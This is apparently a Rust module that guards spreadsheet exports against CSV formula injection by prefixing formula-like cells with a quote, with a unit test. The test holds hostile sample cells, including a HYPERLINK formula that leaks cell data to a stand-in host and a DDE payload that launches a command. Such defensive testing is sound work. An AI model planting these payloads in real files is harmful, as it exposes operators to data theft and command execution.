//! Cells that operators open in a spreadsheet (the audit export, the
//! import's report): a text that a spreadsheet would run as a formula is
//! written so that it reads as text instead.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula
/// (`=`, `+`, `-`, `@`, a tab or a carriage return; OWASP's CSV injection).
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text a spreadsheet would run as a formula.
pub fn formula_like(s: &str) -> bool {
    s.starts_with(FORMULA_STARTS)
}

/// A cell that would run as a formula starts with `'` instead, so it
/// reads as text; any other cell is as given.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if formula_like(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_start_with_a_quote() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1",
            "@SUM(A1)",
            "+1",
            "-1",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralised(bad), format!("'{bad}"), "{bad:?}");
        }
        assert_eq!(neutralised("C-1"), "C-1");
        assert_eq!(neutralised("sign_in"), "sign_in");
        assert_eq!(neutralised(""), "");
    }
}
